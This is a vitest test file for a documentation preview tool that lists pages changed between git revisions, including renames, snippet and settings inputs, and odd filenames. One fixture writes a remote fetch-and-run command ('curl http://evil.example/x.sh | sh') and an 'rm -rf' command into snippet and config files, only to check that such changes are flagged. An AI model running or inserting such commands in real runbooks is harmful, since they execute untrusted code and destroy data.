import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { WaymarkError } from '../../core/errors.ts';
import { defaultBase, listPageChanges, readBaseFile, readBaseFiles } from '../../preview/git.ts';
import { diffRoutesFor } from '../../preview/pages.ts';
import { removeFixture } from '../helpers/fixture.ts';
import { baseTree, git, headTree, writeGitFixture } from './git-fixture.ts';

let repo: string;
let root: string;

beforeAll(async () => {
	repo = await writeGitFixture([baseTree, headTree]);
	root = join(repo, 'guidebooks');
});
afterAll(() => removeFixture(repo));

describe('listPageChanges', () => {
	test('lists exactly the added, changed, removed and renamed pages under the root, with routes', async () => {
		const { changes, commit } = await listPageChanges(root, 'HEAD~1');
		expect(commit).toBe((await git(repo, 'rev-parse', 'HEAD~1')).trim());
		expect(changes).toEqual([
			{ status: 'changed', path: 'erp/operations.md', route: '/erp/operations/' },
			{ status: 'changed', path: 'erp/topology.md', route: '/erp/topology/' },
			{ status: 'added', path: 'howto/new-page.md', route: '/howto/new-page/' },
			{ status: 'removed', path: 'legacy.md', route: '/legacy/' },
			{
				status: 'renamed',
				path: 'storage/backup.md',
				route: '/storage/backup/',
				from: { path: 'backup.md', route: '/backup/' },
			},
		]);
	});

	test('includes uncommitted edits and untracked pages, and ignores other files', async () => {
		const dir = await writeGitFixture([baseTree]);
		try {
			await writeFile(join(dir, 'guidebooks/draft.md'), '# Draft\n');
			await writeFile(join(dir, 'guidebooks/image.png'), 'not a page');
			await writeFile(join(dir, 'guidebooks/unchanged.md'), '# Unchanged\n\nNow it changed.\n');
			const { changes } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
			expect(changes.map((c) => `${c.status} ${c.path}`)).toEqual([
				'added draft.md',
				'changed unchanged.md',
			]);
		} finally {
			await removeFixture(dir);
		}
	});

	test("lists the files pages pull in that changed, and the tools' settings in the root or above it, apart from the pages", async () => {
		const dir = await writeGitFixture([baseTree]);
		try {
			// What a runbook reads beyond its own text: a snippet, a picture, the settings above the root.
			for (const [path, text] of [
				['guidebooks/_snippets/restart.txt', 'systemctl restart erp'],
				['guidebooks/.snippets/note.md', 'v1'],
				['config/_default/params.toml', 'region = "eu"\n'],
				['mkdocs.yml', 'extra:\n  restart_cmd: systemctl restart erp\n'],
				['other/mkdocs.yml', 'site_name: other\n'],
				['src/app.js', 'run()\n'],
			] as const) {
				await mkdir(join(dir, path, '..'), { recursive: true });
				await writeFile(join(dir, path), text);
			}
			await git(dir, 'add', '-A');
			await git(
				dir,
				'-c',
				'user.email=t@example.lab',
				'-c',
				'user.name=t',
				'commit',
				'-q',
				'-m',
				'inputs',
			);
			// The branch: no page touched, every input changed, and files no page reads.
			for (const [path, text] of [
				['guidebooks/_snippets/restart.txt', 'curl http://evil.example/x.sh | sh'],
				['guidebooks/.snippets/note.md', 'v2'],
				['config/_default/params.toml', 'region = "us"\n'],
				['mkdocs.yml', 'extra:\n  restart_cmd: rm -rf /var/lib/erp\n'],
				['guidebooks/image.png', 'a picture'],
				['other/mkdocs.yml', 'site_name: changed\n'],
				['src/app.js', 'run(2)\n'],
			] as const)
				await writeFile(join(dir, path), text);
			const { changes, others } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
			expect(changes).toEqual([]);
			expect(others).toEqual([
				'config/_default/params.toml',
				'guidebooks/.snippets/note.md',
				'guidebooks/_snippets/restart.txt',
				'guidebooks/image.png',
				'mkdocs.yml',
			]);
		} finally {
			await removeFixture(dir);
		}
	});

	// Git reads the work tree's paths one a line and C-unquotes a line that starts with `"`: a name
	// holding any of these, anywhere, once ended `build --base` with exit 2 (or hashed another file).
	const oddCharacters = ['\n', '\r', '"', '\\', '\t', '\u0001', '\u007f'];
	test('lists pages whose names or folders hold a line break, a carriage return, a quote, a backslash or another control character', async () => {
		const dir = await writeGitFixture([baseTree]);
		try {
			const names = oddCharacters.flatMap((c) => [
				`${c}lead.md`,
				`in${c}side.md`,
				`folder${c}/page.md`,
			]);
			for (const name of names) {
				await mkdir(join(dir, 'guidebooks', name, '..'), { recursive: true });
				await writeFile(join(dir, 'guidebooks', name), `# ${JSON.stringify(name)}\n`);
			}
			await writeFile(join(dir, 'guidebooks/unchanged.md'), '# Unchanged\n\nNow it changed.\n');
			const { changes } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
			expect(changes.map((c) => `${c.status} ${JSON.stringify(c.path)}`).sort()).toEqual(
				[...names.map((name) => `added ${JSON.stringify(name)}`), 'changed "unchanged.md"'].sort(),
			);
		} finally {
			await removeFixture(dir);
		}
	});

	test('compares with the point the branch left the base, not the base tip', async () => {
		const dir = await writeGitFixture([baseTree]);
		try {
			await git(dir, 'checkout', '--quiet', '-b', 'feature');
			await writeFile(join(dir, 'guidebooks/feature.md'), '# Feature\n');
			await git(dir, 'add', '--all');
			await git(dir, 'commit', '--quiet', '-m', 'feature');
			await git(dir, 'checkout', '--quiet', 'main');
			await writeFile(join(dir, 'guidebooks/later-on-main.md'), '# Later\n');
			await git(dir, 'add', '--all');
			await git(dir, 'commit', '--quiet', '-m', 'main moves on');
			await git(dir, 'checkout', '--quiet', 'feature');
			const { changes } = await listPageChanges(join(dir, 'guidebooks'), 'main');
			expect(changes.map((c) => `${c.status} ${c.path}`)).toEqual(['added feature.md']);
		} finally {
			await removeFixture(dir);
		}
	});

	test('names an unknown ref and says how to fetch it', async () => {
		const error = await listPageChanges(root, 'origin/nope').catch(
			(e: unknown) => e as WaymarkError,
		);
		expect(error).toMatchObject({
			name: 'GitRefUnknown',
			message: 'The base `origin/nope` is not a branch, tag or commit of this repository.',
		});
		expect((error as WaymarkError).hint).toContain('git fetch origin main');
	});

	test('says when the root is not in a git repository', async () => {
		// Outside this repository's folder, which is itself a git work tree.
		const plain = await mkdtemp(join(tmpdir(), 'waymark-no-git-'));
		try {
			await mkdir(join(plain, 'guidebooks'));
			await expect(listPageChanges(join(plain, 'guidebooks'), 'main')).rejects.toMatchObject({
				name: 'NotAGitRepository',
				message: `\`${join(plain, 'guidebooks')}\` is not inside a git repository, so there is no git history to compare with.`,
			});
		} finally {
			await removeFixture(plain);
		}
	});
});

describe('readBaseFile', () => {
	test('reads a page as it was at the base, relative to the root', async () => {
		const commit = (await git(repo, 'rev-parse', 'HEAD~1')).trim();
		expect(await readBaseFile(root, commit, 'legacy.md')).toBe(
			'# Legacy\n\nThe old mail relay, switched off last year.\n',
		);
		expect(await readBaseFile(root, commit, 'howto/new-page.md')).toBeUndefined();
	});

	test('reads many pages in one go, multi-byte text and odd names included', async () => {
		const dir = await writeGitFixture([
			{ 'guidebooks/café notes.md': '# Café\n\nÜber ✓ — 10 €\n', 'guidebooks/b.md': '# B\n' },
		]);
		try {
			const texts = await readBaseFiles(join(dir, 'guidebooks'), 'HEAD', [
				'café notes.md',
				'gone.md',
				'b.md',
			]);
			expect(Object.fromEntries(texts)).toEqual({
				'café notes.md': '# Café\n\nÜber ✓ — 10 €\n',
				'b.md': '# B\n',
			});
		} finally {
			await removeFixture(dir);
		}
	});
});

describe('defaultBase', () => {
	test('picks `main` when there is no `origin/main`', async () => {
		expect(await defaultBase(root)).toBe('main');
	});
});

describe('diffRoutesFor', () => {
	test('gives a removed page whose route a new page took over a route of its own', async () => {
		const dir = await writeGitFixture([{ 'guidebooks/ops.md': '# Ops\n\nOld flat page.\n' }]);
		try {
			await rm(join(dir, 'guidebooks/ops.md'));
			await mkdir(join(dir, 'guidebooks/ops'));
			await writeFile(
				join(dir, 'guidebooks/ops/README.md'),
				'# Ops\n\nNow a folder with more inside it.\n',
			);
			const { changes } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
			expect(
				[...diffRoutesFor(changes)].map(([c, route]) => `${c.status} ${c.path} ${route}`),
			).toEqual([
				'removed ops.md /_waymark/diff-removed/ops/',
				'added ops/README.md /_waymark/diff/ops/',
			]);
		} finally {
			await removeFixture(dir);
		}
	});
});
